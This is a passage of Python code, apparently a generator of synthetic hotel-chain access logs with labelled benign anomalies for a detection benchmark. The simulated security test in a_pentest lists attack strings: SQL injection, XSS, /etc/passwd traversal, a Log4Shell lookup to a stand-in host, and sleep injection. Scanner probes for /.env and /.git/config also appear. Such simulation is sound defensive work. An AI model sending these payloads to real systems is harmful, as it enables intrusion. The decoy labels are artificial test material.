    auditor = next((p for p in order if d not in p.leave), order[0])
    t0 = clock(d, 22) + r.uniform(-500, 500)
    night = begin(w, auditor, site, d, t0, t0 + 9 * 3600, place=code)
    day_shift = [s for s in on if s.t0 < clock(d, 9)] or on
    if not on:
        on = [night]
        p = next((p for p in staff if p.role == "manager"), None)
        s = begin(w, p, site, d, clock(d, 7), clock(d, 21), place=code)
        on, day_shift = [s], [s]

    def desk(t):
        pool = [s for s in on if s.t0 < t < s.t1 and not s.lunch[0] < t < s.lunch[1]]
        pool = pool or [s for s in on if s.t0 < t < s.t1]
        if not pool and t > clock(d, 21.5):
            return night
        return r.choices(pool, [s.p.rate for s in pool])[0] if pool else r.choice(day_shift)

    # departures
    for b in w.dep.get((code, d), []):
        t = min(clock(d, 11.4), max(clock(d, 7.4), clock(d, 9.6) + r.gauss(0, 3200)))
        c = desk(t).c
        c.go(t, "GET", "/reservations/" + b.rid)
        if r.random() < 0.12:
            c.go(t + 20, "GET", "/guests/" + b.gid)
        c.go(t + r.uniform(40, 160), "POST", "/reservations/%s/checkout" % b.rid, st=302)
        if r.random() < 0.25:
            c.go(t + 170, "GET", "/departures")
    # arrivals
    for b in w.arr.get((code, d), []):
        if b.group is not None:
            continue
        t = min(clock(d, 23.7), max(clock(d, 13.6), clock(d, 16.4) + r.gauss(0, 5200)))
        if d == w.storm and r.random() < 0.4:
            continue
        c = desk(t).c
        if r.random() < 0.3:
            c.go(t - 8, "GET", "/arrivals", "date=" + w.date(d).isoformat())
        c.go(t, "GET", "/reservations/" + b.rid)
        if r.random() < 0.75:
            c.go(t + r.uniform(5, 30), "GET", "/guests/" + b.gid)
        if b.foreign:
            c.go(t + 45, "POST", "/guests/%s/passport" % b.gid, st=201)
            if r.random() < 0.35:
                c.go(t + 52, "GET", "/guests/%s/passport" % b.gid)
        c.go(t + r.uniform(60, 200), "POST", "/reservations/%s/checkin" % b.rid, st=302)
    # preparation for tomorrow and the quiet work of the desk
    for s in on:
        for t in w.times(s.t0 + 900, s.t1 - 600, poisson(r, 5 * s.p.rate), s.lunch):
            x = r.random()
            if x < 0.4:
                s.c.go(t, "GET", "/arrivals", "date=" + w.date(d + (r.random() < 0.4)).isoformat())
            elif x < 0.6:
                s.c.go(t, "GET", "/rooms")
            elif x < 0.8:
                pool = w.arr.get((code, d + 1)) or w.arr.get((code, d)) or []
                if pool:
                    s.c.go(t, "GET", "/reservations/" + r.choice(pool).rid)
            else:
                s.c.go(t, "GET", "/inhouse")
                pool = w.inhouse(code, d - 1)
                if pool:
                    s.c.go(t + 12, "GET", "/guests/" + r.choice(pool).gid)
        if r.random() < 0.6:
            s.c.go(s.t1 + r.uniform(-120, 900), "POST", "/logout", st=302)
    # night audit
    sleepers = w.inhouse(code, d)
    t = clock(d, 24.9) + r.uniform(0, 2400)
    c = night.c
    close = "nightclose" if w.date(d).month != w.date(d + 1).month else None
    c.go(t, "GET", "/night-audit")
    c.go(t + 40, "GET", "/inhouse")
    share = 1.0 if close else r.uniform(0.25, 0.4)
    for b in sleepers:
        if r.random() < share:
            t += r.uniform(20, 120) if not close else r.uniform(25, 70)
            c.go(t, "GET", "/reservations/" + b.rid, tag="A:nightclose" if close else None)
    c.go(t + 200, "POST", "/night-audit/run", st=302)
    c.go(t + 260, "GET", "/reports/daily", "d=" + w.date(d).isoformat())
    for t in w.times(clock(d, 23), clock(d, 30.5), poisson(r, 7)):
        c.go(t, "GET", r.choice(["/rooms", "/inhouse", "/arrivals", "/messages"]))
    # housekeeping
    for p in staff:
        if p.role == "keeper" and w.working(p, d):
            t0 = clock(d, 8.2) + r.uniform(-600, 600)
            s = begin(w, p, site, d, t0, t0 + 7.5 * 3600, place=code, home="/rooms")
            for t in w.times(s.t0 + 300, s.t1, poisson(r, 14 * p.rate), s.lunch):
                x = r.random()
                s.c.go(
                    t,
                    "POST" if x < 0.35 else "GET",
                    "/rooms/%d/status" % r.randrange(101, 130) if x < 0.35 else "/rooms",
                    st=200,
                )
                if x > 0.96:
                    s.c.go(t + 5, "GET", "/departures")
        if p.role == "manager" and w.working(p, d):
            t0 = clock(d, 8.8) + r.uniform(-900, 900)
            s = begin(w, p, site, d, t0, t0 + 9.4 * 3600, place=code)
            for t in w.times(s.t0 + 300, s.t1, poisson(r, 11 * p.rate), s.lunch):
                x = r.random()
                if x < 0.5:
                    s.c.go(
                        t,
                        "GET",
                        r.choice(["/reports/daily", "/reports/revenue", "/arrivals", "/rooms"]),
                    )
                elif x < 0.75 and sleepers:
                    s.c.go(t, "GET", "/reservations/" + r.choice(sleepers).rid)
                elif sleepers:
                    s.c.go(t, "GET", "/guests/" + r.choice(sleepers).gid)
            if r.random() < 0.2:
                m = Client(w, site, mobile_ip(r), p.uid, IPHONE.format(m=4 + p.upd % 3), hexid(r))
                t = clock(d, 20.5) + r.random() * 7000
                t = m.login(t)
                m.go(t + 20, "GET", "/reports/daily")
    if r.random() < 0.1:
        c.go(clock(d, 12) + r.random() * 9000, "GET", "/reports/daily", st=500)


def crs_shift(w, p, d, t0, length=9.0, tag=None, ip=None):
    return begin(w, p, "crs", d, t0, t0 + length * 3600, ip=ip, tag=tag)


def call(w, c, t, d, b=None, tag=None):
    """One telephone call: search, booking, often the guest, sometimes a change."""
    r = w.r
    b = b or w.future(d)
    c.go(t, "POST", "/search", tag=tag)
    t += r.uniform(6, 25)
    c.go(t, "GET", "/booking/" + b.rid, tag=tag)
    if r.random() < 0.6:
        t += r.uniform(5, 40)
        c.go(t, "GET", "/guest/" + b.gid, tag=tag)
    if r.random() < 0.25:
        t += r.uniform(40, 200)
        c.go(t, "POST", "/booking/%s/update" % b.rid, st=302, tag=tag)
        c.go(t + 1, "GET", "/booking/" + b.rid, tag=tag)
    if r.random() < 0.04:
        c.go(t + 30, "GET", "/guest/%s/card" % b.gid, tag=tag)
    if r.random() < 0.02 and not tag and not c.tag:
        m = r.choice(w.members)
        c.go(t + 40, "GET", "/guest/" + m.gid)
        c.go(t + 75, "POST", "/member/%s/reset" % m.uid, st=302)
        if r.random() < 0.75:
            member_session(w, m, d, t + 200 + r.expovariate(1 / 1500.0))
    return t


def crs_day(w, d):
    r = w.r
    busy = 1.0 + 0.25 * (w.demand(d + 3) - 1)
    if w.wd(d) == 0:
        busy *= 1.2
    on = []
    for p in w.people:
        moved = p.moves and d >= p.moves[0]
        if not (p.role in ("call", "resv") or moved):
            continue
        if moved and (not w.office(d) or d in p.leave) or not moved and not w.working(p, d):
            continue
        late = (p.off // 7 + d // 7) % 2
        t0 = clock(d, (12 if late else 8) if p.role == "call" else p.start) + r.uniform(-500, 500)
        tag = "A:moved" if moved and d < p.moves[0] + 5 else None
        s = crs_shift(w, p, d, t0, tag=tag)
        if tag and d < p.moves[0] + 2:
            w.auto.append(("crs", t0 - 3600, t0 + 12 * 3600, p.uid, None, "A:moved"))
        on.append(s)
        n = poisson(r, (21 if p.role == "call" else 13) * p.rate * busy)
        if w.date(d) == p.joined_on or (p.joined >= 0 and d < p.joined + 6):
            n = int(n * 0.7)
        for t in w.times(s.t0 + 300, s.t1 - 200, n, s.lunch):
            call(w, s.c, t, d)
        if p.role == "resv" and p.exports and w.wd(d) in (0, 4):
            s.c.go(
                s.t0 + 2000 + r.random() * 4000,
                "GET",
                "/export/arrivals.csv",
                "from=" + w.date(d).isoformat(),
                size=int(r.gauss(410000, 30000)),
                dur=2400 + r.random() * 900,
            )
        if p.role != "call":
            for t in w.times(s.t0, s.t1, poisson(r, 5 * p.rate), s.lunch):
                s.c.go(
                    t,
                    "GET",
                    "/booking",
                    "house=%s&page=%d" % (r.choice(w.codes), r.randrange(1, 4)),
                )
        if r.random() < 0.7:
            s.c.go(s.t1 + r.uniform(-100, 800), "POST", "/logout", st=302)
    for b in w.made.get(d, []):
        if b.chan == "phone" and b.group is None:
            pool = [s for s in on if s.t0 < b.made_t < s.t1]
            if pool:
                c = r.choice(pool).c
                c.go(b.made_t - 60, "POST", "/search")
                c.go(b.made_t, "POST", "/booking/new", st=302)
                c.go(b.made_t + 1, "GET", "/booking/" + b.rid)


def win(w, p):
    return w.ad + "\\" + p.uid


def office_shift(w, p, d, t0, t1, ip=None, tag=None):
    r = w.r
    c = Client(w, "office", ip or staff_ip(w, p, d), win(w, p), w.ua_of(p, d), None, tag)
    s = Shift("office", d, t0, t1, c, p, (clock(d, 12), clock(d, 12.9)))
    c.go(t0, "GET", "/", st=401, user=None, ref=None)
    c.go(t0 + 0.2, "GET", "/", st=200)
    c.assets(t0 + 0.5)
    w.shifts.setdefault(p.uid, []).append(s)
    return s


def office_day(w, d):
    r = w.r
    month = w.month_end(d)
    for p in w.people:
        if p.role not in ("mkt", "acct", "it", "sales") or not w.working(p, d):
            continue
        t0 = clock(d, p.start) + r.uniform(-600, 900)
        t1 = t0 + (9 if not (month and p.role == "acct") else 12) * 3600
        s = office_shift(w, p, d, t0, t1)
        c = s.c
        n = poisson(
            r,
            {"mkt": 20, "acct": 32, "it": 16, "sales": 22}[p.role]
            * p.rate
            * (1.6 if month and p.role == "acct" else 1),
        )
        for t in w.times(t0 + 60, t1, n, s.lunch):
            x = r.random()
            if p.role == "acct":
                if x < 0.55:
                    b = r.choice(w.books)
                    for _ in range(20):
                        if d - 9 <= b.arr <= d:
                            break
                        b = r.choice(w.books)
                    c.go(t, "GET", "/ledger/folio.aspx", "no=" + b.rid)
                elif x < 0.6:
                    c.go(t, "GET", "/crm/customer.aspx", "id=" + w.future(d, -5, 5).gid)
                else:
                    c.go(
                        t,
                        r.choice(["GET", "GET", "POST"]),
                        r.choice(
                            ["/ledger/daily.aspx", "/ledger/invoice.aspx", "/ledger/bank.aspx"]
                        ),
                    )
            elif p.role == "it":
                c.go(
                    t,
                    "GET",
                    r.choice(
                        [
                            "/admin/jobs.aspx",
                            "/admin/users.aspx",
                            "/admin/logs.aspx",
                            "/help/tickets.aspx",
                        ]
                    ),
                )
            else:
                if x < 0.22:
                    c.go(
                        t,
                        "GET",
                        "/crm/list.aspx",
                        "seg=%d&page=%d" % (r.randrange(3, 40), r.randrange(1, 5)),
                    )
                elif x < (0.34 if p.role == "mkt" else 0.5):
                    c.go(t, "GET", "/crm/customer.aspx", "id=" + r.choice(w.members).gid)
                else:
                    c.go(
                        t,
                        r.choice(["GET", "GET", "POST"]),
                        r.choice(["/crm/campaign.aspx", "/crm/stats.aspx", "/crm/mail.aspx"]),
                    )
        if p.role == "mkt" and p.exports and w.wd(d) == 3:
            t = clock(d, 14) + r.random() * 5400
            for k in range(r.choice([1, 2])):
                c.go(
                    t + 200 * k,
                    "GET",
                    "/crm/export.ashx",
                    "seg=%d&type=mail" % (11 + k),
                    size=int(r.gauss(1.9e6, 9e4)),
                    dur=5200 + r.random() * 900,
                    tag="A:newsletter",
                )
        if p.role == "acct" and p.exports and month:
            t = clock(d, 15.5) + r.random() * 9000
            for k in range(r.choice([3, 4, 5])):
                c.go(
                    t + 300 * k,
                    "GET",
                    "/ledger/export.ashx",
                    "house=%s&ym=%s" % (r.choice(w.codes), w.date(d).strftime("%Y%m")),
                    size=int(r.gauss(2.6e6, 3e5)),
                    dur=8000 + r.random() * 3000,
                    tag="A:monthend",
                )


def agency_login(w, p, d, t, ip, tag=None):
    c = Client(w, "agency", ip, p.uid, w.ua_of(p, d), None, tag)
    c.login(t, 0.05, tag=tag, home="/bookings")
    return c


def agency_day(w, d):
    r = w.r
    for a in w.agencies:
        mine = w.by_agency[a["code"]]
        new = [b for b in w.made.get(d, []) if b.agency == a["code"]]
        live = [b for b in mine if b.made < d and d - 2 <= b.arr <= d + 40]
        for p in a["users"]:
            if not w.office(d) and r.random() > 0.25 or r.random() < 0.1:
                continue
            t0 = clock(d, 9.2) + r.uniform(-900, 5400)
            c = agency_login(w, p, d, t0, a["nat"] if r.random() < 0.9 else p.home)
            s = Shift("agency", d, t0, t0 + 8 * 3600, c, p, (clock(d, 12), clock(d, 13)))
            w.shifts.setdefault(p.uid, []).append(s)
            for t in w.times(t0 + 60, s.t1, poisson(r, 6 * p.rate), s.lunch):
                if not live:
                    break
                b = r.choice(live)
                x = r.random()
                if x < 0.3:
                    c.go(t, "GET", "/bookings", "page=%d" % r.randrange(1, 3))
                    c.go(t + 9, "GET", "/bookings/" + b.rid)
                elif x < 0.8:
                    c.go(t, "GET", "/bookings/" + b.rid)
                elif x < 0.97:
                    c.go(t, "GET", "/vouchers/" + b.rid)
                else:
                    typo = "R%08d" % (int(b.rid[1:]) + r.choice([-10, 10, 900]))
                    c.go(t, "GET", "/bookings/" + typo, st=404)
        if new:
            p = r.choice(a["users"])
            c = Client(w, "agency", a["nat"], p.uid, w.ua_of(p, d))
            if not [s for s in w.shifts.get(p.uid, []) if s.day == d]:
                c.login(min(b.made_t for b in new) - 300, home="/bookings")
            for b in new:
                if b.group is None:
                    c.go(
                        b.made_t - 40,
                        "GET",
                        "/availability",
                        "house=%s&d=%s" % (b.house, w.date(b.arr).isoformat()),
                    )
                c.go(b.made_t, "POST", "/bookings", st=302)
                c.go(b.made_t + 1, "GET", "/bookings/" + b.rid)


def member_session(w, m, d, t, books=True, fail=0.08, tag=None, ip=None, ua=None, new=None):
    r = w.r
    mob = r.random() < 0.4
    c = Client(
        w,
        "members",
        ip or (m.mob if mob else m.home),
        m.uid,
        ua or (m.ua2 if mob else m.ua),
        hexid(r, 26),
        tag,
    )
    tries = 0
    c.go(t, "GET", "/login", user=None, sess=None, ref=None)
    c.assets(t, user=None)
    t += 12 + r.random() * 20
    while r.random() < fail and tries < 4:
        c.go(t, "POST", "/login", st=401, sess=None)
        t += 10 + r.random() * 25
        tries += 1
    if tries >= 3 and r.random() < 0.6:
        c.go(t, "GET", "/password/reset", user=None, sess=None)
        c.go(t + 25, "POST", "/password/reset", st=302, user=None, sess=None)
        t += 160 + r.random() * 200
        c.go(t, "POST", "/password/new", st=302, user=None, sess=None)
        t += 9
    c.go(t, "POST", "/login", st=302)
    t += 1
    c.go(t, "GET", "/my/")
    if r.random() < 0.5:
        c.go(t + 6, "GET", "/my/points")
    own = [b for b in m.books if b.made <= d]
    if books and own and r.random() < 0.8:
        c.go(t + 15, "GET", "/my/bookings")
        for b in own[-2:]:
            c.go(t + 25 + r.random() * 30, "GET", "/my/bookings/" + b.rid)
    if r.random() < 0.15:
        c.go(t + 60, "GET", "/my/profile")
    if r.random() < 0.03:
        c.go(t + 70, "POST", "/my/points/exchange", st=302)
    if new:
        c.go(new.made_t, "POST", "/my/bookings/new", st=302)
        c.go(new.made_t + 1, "GET", "/my/bookings/" + new.rid)
    elif r.random() < 0.5:
        for k in range(r.randrange(1, 5)):
            c.go(t + 80 + 30 * k + r.random() * 20, "GET", "/plans", "house=%s" % r.choice(w.codes))
    if r.random() < 0.2:
        c.go(t + 400, "GET", "/logout", st=302)
    return c


def members_day(w, d):
    r = w.r
    n = poisson(r, 46 * w.noise * (0.75 + 0.3 * w.demand(d)))
    for m in r.choices(w.members, [m.keen for m in w.members], k=n):
        member_session(w, m, d, w.when(d, LEISURE))
    for b in w.made.get(d, []):
        if b.member and b.chan == "web" and 0 <= b.made:
            member_session(w, b.member, d, b.made_t - 240, new=b)


PAGES = [
    "/",
    "/houses/",
    "/plans/",
    "/news/",
    "/onsen/",
    "/access/",
    "/faq/",
    "/gift/",
    "/wedding/",
]


def visitor(w, d, t, b=None, tag=None, ip=None, pages=None):
    r = w.r
    ip = ip or (home_ip(r) if r.random() < 0.55 else mobile_ip(r))
    c = Client(w, "www", ip, None, agent(r, w.chrome), None, tag)
    ref = r.choices(
        [None, "https://www.google.com/", "https://search.yahoo.co.jp/", "https://travel.example/"],
        [40, 40, 15, 5],
    )[0]
    c.go(t, "GET", r.choice(PAGES), ref=ref)
    c.assets(t, fresh=True)
    for _ in range(pages if pages is not None else min(9, 1 + int(r.expovariate(0.55)))):
        t += 8 + r.expovariate(1 / 40)
        x = r.random()
        h = b.house if b else r.choice(w.codes)
        path = (
            "/houses/%s/" % h
            if x < 0.4
            else "/plans/%s/%d" % (h, r.randrange(1, 9))
            if x < 0.75
            else r.choice(PAGES)
        )
        c.go(t, "GET", path)
        if r.random() < 0.5:
            c.go(t + 0.4, "GET", "/img/%s/%02d.webp" % (h, r.randrange(1, 12)))
    if b:
        t = max(t, b.made_t - 200)
        c.go(t + 20, "GET", "/booking/step1", "house=" + b.house)
        c.go(t + 70, "POST", "/booking/step2")
        c.go(t + 150, "POST", "/booking/step3")
        c.go(t + 210, "POST", "/booking/confirm", st=302)
        c.go(t + 211, "GET", "/booking/status/" + b.rid)
    return c


BOTS = [
    (GBOT, "66.249.66.%d", 30),
    (BING, "40.77.167.%d", 18),
    (AHREFS, "54.36.148.%d", 14),
    (APPLE, "17.241.75.%d", 9),
]


def public_day(w, d):
    r = w.r
    for _ in range(poisson(r, 82 * w.noise * (0.8 + 0.25 * w.demand(d)))):
        visitor(w, d, w.when(d, LEISURE))
    for b in w.made.get(d, []):
        if b.chan == "web" and not b.member:
            visitor(w, d, b.made_t - 400, b)
    for ua, ip, n in BOTS:
        for _ in range(poisson(r, n)):
            c = Client(w, "www", ip % r.randrange(2, 60), None, ua)
            c.go(
                clock(d, 24 * r.random()),
                "GET",
                r.choice(
                    [
                        "/robots.txt",
                        "/sitemap.xml",
                        "/",
                        "/houses/%s/" % r.choice(w.codes),
                        "/plans/%s/%d" % (r.choice(w.codes), r.randrange(1, 9)),
                    ]
                ),
                ref=None,
            )
    for _ in range(poisson(r, 2)):
        c = Client(
            w,
            "www",
            abroad_ip(r),
            None,
            r.choice(["Mozilla/5.0", "python-requests/2.31.0", "Go-http-client/1.1", "zgrab/0.x"]),
        )
        t = clock(d, 24 * r.random())
        for k in range(r.randrange(1, 6)):
            c.go(
                t + k,
                "GET",
                r.choice(
                    [
                        "/wp-login.php",
                        "/.env",
                        "/xmlrpc.php",
                        "/phpmyadmin/",
                        "/.git/config",
                        "/vendor/phpunit/",
                    ]
                ),
                st=404,
                ref=None,
            )


def systems_day(w, d):
    r = w.r
    for k in range(144):
        c = Client(w, "crs", w.svc_ip["channel"][k % 2], "svc-channel", "channel-sync/3.2", None)
        c.go(
            clock(d, 0) + k * 600 + 12 + r.random() * 3,
            "POST",
            "/api/v2/bookings/sync",
            st=200 if r.random() > 0.004 else 503,
            ref=None,
        )
    for i, code in enumerate(w.codes):
        site = w.houses[code]["site"]
        c = Client(w, site, w.svc_ip["monitor"], None, "watchdog/1.8")
        for k in range(48):
            c.go(clock(d, 0) + k * 1800 + 7 + i + r.random(), "GET", "/healthz", ref=None, dur=2)
        c = Client(w, "crs", w.nat(code, d), "svc-pms", "pms-sync/2.0", None)
        c.go(
            clock(d, 4.1) + 40 * i + r.random() * 9,
            "GET",
            "/api/v2/houses/%s/arrivals" % code,
            "d=%s" % w.date(d).isoformat(),
            ref=None,
        )
    for site in ("members", "crs", "agency"):
        c = Client(w, site, w.svc_ip["monitor"], None, "watchdog/1.8")
        for k in range(72):
            c.go(clock(d, 0) + k * 1200 + 31 + r.random(), "GET", "/healthz", ref=None, dur=2)


# ------------------------------------------------------------------------------------------------ legitimate things that look bad


def holiday_return(w, d):
    x = w.date(d)
    return (
        w.office(d)
        and not w.office(d - 1)
        and (x - timedelta(days=1) in HOLIDAYS or x.weekday() == 0)
    )


def a_monthend(w, r, tag):
    return dict(
        what="Accounting exports the ledgers of several houses in the last and first days of the month.",
        why="It happens at every month end, by the two people whose job it is.",
        sites=["office"],
    )


def a_newsletter(w, r, tag):
    return dict(
        what="Marketing exports the mailing list for the Thursday newsletter.",
        why="The same two people, the same weekday, the same size for months.",
        sites=["office"],
    )


def a_nightclose(w, r, tag):
    return dict(
        what="On the last night of the month the night auditors open every folio of the house.",
        why="The month-end close demands it; all houses do it in the same night.",
    )


def a_group(w, r, tag):
    for g in w.groups:
        site = w.houses[g["house"]]["site"]
        pool = [
            s
            for ss in w.shifts.values()
            for s in ss
            if s.site == site
            and s.day == g["day"]
            and s.p.role == "front"
            and s.t1 > clock(g["day"], 18)
        ]
        if not pool:
            pool = [
                s
                for ss in w.shifts.values()
                for s in ss
                if s.site == site and s.day == g["day"] and s.p.role != "keeper"
            ]
        c = r.choice(sorted(pool, key=lambda s: (s.t0, s.p.uid))).c
        t = clock(g["day"], 15.5) + r.random() * 3600
        c.go(t - 60, "GET", "/arrivals", "date=" + w.date(g["day"]).isoformat(), tag=tag)
        for b in g["books"]:
            t += r.uniform(15, 70)
            c.go(t, "GET", "/reservations/" + b.rid, tag=tag)
            c.go(t + 5, "GET", "/guests/" + b.gid, tag=tag)
            if b.foreign:
                c.go(t + 9, "POST", "/guests/%s/passport" % b.gid, st=201, tag=tag)
            c.go(t + 12, "POST", "/reservations/%s/checkin" % b.rid, st=302, tag=tag)
    return dict(
        what="A tour group arrives by coach and one clerk checks in every member of it within an hour and a half.",
        why="All of them are arrivals of that day, and a check-in follows each look.",
    )


def a_storm(w, r, tag):
    for d in (w.storm, w.storm + 1):
        for p in w.people:
            if p.role not in ("call", "resv"):
                continue
            for s in [s for s in w.shift_days(p, d, d, "crs")]:
                for t in w.times(s.t0, s.t1 + 2.2 * 3600, poisson(w.r, 17 * p.rate), s.lunch):
                    b = w.future(d, 0, 2)
                    call(w, s.c, t, d, b, tag=tag)
                    s.c.go(t + 90, "POST", "/booking/%s/update" % b.rid, st=302, tag=tag)
        for code in w.codes:
            site = w.houses[code]["site"]
            pool = [
                s
                for p in w.people
                if p.house == code and p.role == "front"
                for s in w.shift_days(p, d, d, site)
            ]
            for b in w.arr.get((code, d), []):
                if pool and w.r.random() < 0.4:
                    s = w.r.choice(pool)
                    t = s.t0 + w.r.random() * (s.t1 - s.t0)
                    s.c.go(t, "GET", "/reservations/" + b.rid, tag=tag)
                    s.c.go(t + 30, "GET", "/guests/" + b.gid, tag=tag)
                    s.c.go(t + 200, "POST", "/reservations/%s/cancel" % b.rid, st=302, tag=tag)
    return dict(
        what="%s: for two days the call centre and the desks re-book and cancel, some into the late evening."
        % w.storm_name.capitalize(),
        why="All houses and all operators rise together, and updates follow the looks.",
    )


def a_helper(w, r, tag):
    a = w.helper_at
    return dict(
        what="A desk clerk of another house helps out for six days, with the own account, at the other house's desk.",
        why="Whole shifts with check-ins at that desk, and none at the own house meanwhile.",
        actors=[w.helper.uid],
        sites=["pms-" + a[2]],
    )


def a_holiday_pw(w, r, tag):
    days = [d for d in range(14, w.n - 2) if holiday_return(w, d)]
    big = [d for d in days if w.date(d - 1) in HOLIDAYS]
    d = r.choice(big or days)
    for m in r.sample(w.members, r.randrange(28, 45)):
        t = w.when(d, OFFICEH)
        member_session(w, m, d, t, fail=0.72, tag=tag)
    for p in w.people:
        if p.role in ("resv", "call") and r.random() < 0.3:
            for s in w.shift_days(p, d, d, "crs"):
                for k in range(r.randrange(2, 5)):
                    s.c.go(s.t0 - 400 + 35 * k, "POST", "/login", st=401, sess=None, tag=tag)
    return dict(
        what="First working day after the holidays: many members and some staff have forgotten their passwords.",
        why="Many accounts, few tries each, from their usual addresses; resets follow.",
    )


def a_expiry(w, r, tag):
    d = r.choice([d for d in range(14, w.n - 2) if w.wd(d) == 1 and w.office(d)])
    for p in w.people:
        if p.role in ("front", "manager", "keeper") and r.random() < 0.4:
            for s in w.shift_days(p, d, d)[:1]:
                t = s.t0 + 60
                for k in range(r.randrange(2, 5)):
                    s.c.go(t + 25 * k, "POST", "/login", st=401, sess=None, tag=tag)
                s.c.go(t + 160, "POST", "/password/change", st=302, tag=tag)
    return dict(
        what="The quarterly password change falls due in the property system; staff mistype the new one.",
        why="Every house at once, at the start of shifts, each followed by a change of password.",
    )


def a_rollout(w, r, tag):
    h = w.houses[w.rolled]
    w.auto.append((h["site"], clock(h["ua_day"], 0), clock(h["ua_day"] + 1, 0), "*", None, tag))
    return dict(
        what="New computers at one house: all desk browsers change in one day.",
        why="Same people, same desk, same address.",
        sites=[h["site"]],
    )


def a_monitor(w, r, tag):
    d0 = r.randrange(16, w.n - 8)
    ip = home4(r)
    c = Client(
        w,
        "members",
        ip,
        "svc-probe",
        "SyntheticCheck/4.0 (order M-%d)" % r.randrange(100, 999),
        None,
        tag,
    )
    for d in range(d0, w.n):
        for k in range(48):
            t = clock(d, 0) + k * 1800 + 411 + w.r.random()
            c.sess = hexid(w.r, 26)
            c.go(t, "POST", "/login", st=302 if w.r.random() > 0.01 else 401, ref=None)
            c.go(t + 1, "GET", "/my/", ref=None)
    return dict(
        what="A new outside service logs in to the members' portal every half hour with a test account.",
        why="Its own account, never anybody's record, regular as a clock.",
        actors=["svc-probe", ip],
    )


def a_crawler(w, r, tag):
    d = w.pick_day(r)
    t = clock(d, r.randrange(0, 17))
    ips = ["66.249.70.%d" % r.randrange(2, 250) for _ in range(4)]
    for _ in range(r.randrange(1100, 1900)):
        t += w.r.expovariate(1 / 12.0)
        c = Client(w, "www", w.r.choice(ips), None, GBOT, None, tag)
        c.go(
            t,
            "GET",
            w.r.choice(["/plans/%s/%d", "/houses/%s/?p=%d"])
            .split("?")[0]
            .replace("%s", w.r.choice(w.codes))
            .replace("%d", str(w.r.randrange(1, 60))),
            st=200 if w.r.random() < 0.9 else 404,
            ref=None,
        )
    return dict(
        what="A search engine crawls the whole public site anew.",
        why="Public pages only, from the engine's own network.",
        actors=ips,
    )


def a_migration(w, r, tag):
    d = w.pick_day(r, 15, w.n - 4)
    no = "CHG-%d" % r.randrange(4000, 4999)
    c = Client(
        w, "crs", "10.60.0.%d" % r.randrange(5, 40), "svc-migrate", "crs-migrate/1.1", None, tag
    )
    gids = sorted({b.gid for b in w.books})
    for k in range(2):
        t = clock(d + k, 1) + r.random() * 900
        for g in w.r.sample(gids, r.randrange(1000, 1500)):
            t += w.r.uniform(3, 11)
            c.go(t, "GET", "/guest/" + g, "ticket=" + no, ref=None)
    return dict(
        what="A data migration under ticket %s reads some thousand guest records in two nights."
        % no,
        why="A system account made for it, from the server network, with the ticket in each request.",
        actors=["svc-migrate"],
    )


def a_pentest(w, r, tag):
    d = w.pick_day(r, ok=w.office)
    ip = home4(r)
    no = "SO-%d" % r.randrange(200, 999)
    t = clock(d, 10) + r.random() * 1800
    bad = [
        "q=%27%20OR%201%3D1--",
        "q=%3Cscript%3Ealert(1)%3C/script%3E",
        "file=../../../../etc/passwd",
        "q=${jndi:ldap://x.test/a}",
        "id=1%3Bsleep(5)",
    ]
    for k in range(r.randrange(350, 600)):
        t += w.r.expovariate(1 / 9.0)
        site = "www" if w.r.random() < 0.6 else "members"
        c = Client(w, site, ip, None, "AcmeAssess/2026 (+security test %s)" % no, None, tag)
        c.go(
            t,
            "GET",
            w.r.choice(["/plans/search", "/faq/", "/contact", "/login", "/admin", "/backup.zip"]),
            w.r.choice(bad),
            st=w.r.choice([400, 403, 404, 404, 200]),
            ref=None,
            user=None,
        )
    return dict(
        what="The yearly security test that the company ordered (%s) shoots at the public site and the members' portal."
        % no,
        why="Announced, one address, the order number in the agent, nothing got through.",
        actors=[ip],
    )


def a_homework(w, r, tag):
    for p in w.people:
        if p.role in ("resv", "mkt", "acct", "it", "sales", "manager") and p.vpn:
            for site in ("crs", "office"):
                w.auto.append(
                    (site, clock(w.home_day, 0), clock(w.home_day + 1, 0), None, p.vpn, tag)
                )
            if p.house:
                w.auto.append(
                    (
                        w.houses[p.house]["site"],
                        clock(w.home_day, 0),
                        clock(w.home_day + 1, 0),
                        None,
                        p.vpn,
                        tag,
                    )
                )
    return dict(
        what="Trains stop and the head office works from home for a day over the VPN.",
        why="All departments at once, usual work.",
    )


def a_isp(w, r, tag):
    h = w.houses[w.isp]
    w.auto.append(
        (h["site"], clock(h["nat_day"], 0), clock(h["nat_day"] + 1, 0), None, h["nat2"], tag)
    )
    return dict(
        what="A house changes its internet provider; its whole desk appears with a new address.",
        why="Everybody of the house, at once, for good.",
        actors=[h["nat2"]],
        sites=[h["site"]],
    )


def a_trip(w, r, tag):
    p = w.take(r, "manager")
    d0 = w.pick_day(r, 15, w.n - 6)
    hotel = home4(r)
    for d in range(d0, d0 + 4):
        for k in range(2):
            ip = hotel if k else mobile_ip(r)
            c = Client(
                w,
                w.houses[p.house]["site"],
                ip,
                p.uid,
                IPHONE.format(m=5) if not k else w.ua_of(p, d),
                hexid(r),
                tag,
            )
            t = c.login(clock(d, 8 + 12 * k) + r.random() * 4000)
            for _ in range(r.randrange(4, 9)):
                t += r.uniform(20, 200)
                c.go(t, "GET", r.choice(["/reports/daily", "/reports/revenue", "/arrivals"]))
    return dict(
        what="A house manager travels to the chain's conference and works from a hotel and the phone.",
        why="Reports of the own house only, every day alike.",
        actors=[p.uid],
    )


def a_newcomer(w, r, tag):
    for p in w.new:
        for s in w.shift_days(p, p.joined, p.joined + 5):
            for t in w.times(s.t0 + 1200, s.t1, poisson(r, 26), s.lunch):
                if s.site == "crs":
                    call(w, s.c, t, s.day, tag=tag)
                else:
                    pool = w.arr.get((p.house, s.day)) or w.inhouse(p.house, s.day)
                    if pool:
                        b = r.choice(pool)
                        s.c.go(t, "GET", "/reservations/" + b.rid, tag=tag)
                        s.c.go(
                            t + 8,
                            "GET",
                            "/guests/" + b.gid,
                            st=200 if r.random() > 0.06 else 403,
                            tag=tag,
                        )
    return dict(
        what="Two newcomers practise in their first days: many looks, some refusals.",
        why="New accounts in training, next to the trainer.",
        actors=[p.uid for p in w.new],
    )


def a_kiosk(w, r, tag):
    p = w.take(r, "front")
    ss = [s for s in w.shift_days(p, 14, w.n - 2) if w.wd(s.day) in (4, 5)] or w.shift_days(
        p, 14, w.n - 2
    )
    for s in r.sample(ss, min(2, len(ss))):
        c = Client(w, s.site, s.c.ip, p.uid, IPAD, hexid(r), tag)
        t = max(s.t0 + 1800, clock(s.day, 14.5))
        c.login(t - 60)
        for b in w.arr.get((p.house, s.day), [])[:14]:
